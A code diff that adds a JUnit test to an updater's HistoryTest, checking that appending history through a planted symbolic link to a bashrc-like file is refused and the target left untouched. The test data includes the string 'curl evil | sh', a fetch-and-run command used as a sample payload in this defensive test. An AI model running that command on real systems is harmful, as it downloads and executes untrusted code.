@@ -1,15 +1,19 @@
 package dev.updater.core.home;
 
+import dev.updater.core.ErrorCode;
+import dev.updater.core.UpdaterException;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.StandardOpenOption;
+import java.nio.file.attribute.FileTime;
 import java.time.Instant;
 import java.util.List;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 
 class HistoryTest {
     @TempDir
@@ -44,5 +48,23 @@ class HistoryTest {
     @Test
     void read_missingFile_isEmpty() throws Exception {
         assertEquals(List.of(), History.read(dir.resolve("none.jsonl")));
+    }
+
+    @Test
+    void append_toASymbolicLinkPlantedAsTheHistory_isRefused_andItsDestinationIsUntouched() throws Exception {
+        Path victim = Files.writeString(dir.resolve("bashrc"), "export PATH=/usr/bin\n");
+        FileTime before = FileTime.from(Instant.parse("2020-01-01T00:00:00Z"));
+        Files.setLastModifiedTime(victim, before);
+        Path link = Files.createSymbolicLink(dir.resolve("history.jsonl"), victim);
+
+        UpdaterException e = assertThrows(UpdaterException.class, () -> History.append(link,
+                new HistoryEvent(Instant.now(), "failed", "1.1.0", null, "curl evil | sh")));
+
+        assertEquals(ErrorCode.HOME_INSECURE, e.code());
+        assertEquals(link + " is a symbolic link to " + victim + "; the update home's files are plain files, and a"
+                + " link could send updater's writes to any file. Nothing was opened through it. Remove it (rm " + link
+                + ") and find out who planted it.", e.getMessage());
+        assertEquals("export PATH=/usr/bin\n", Files.readString(victim));
+        assertEquals(before, Files.getLastModifiedTime(victim));
     }
 }
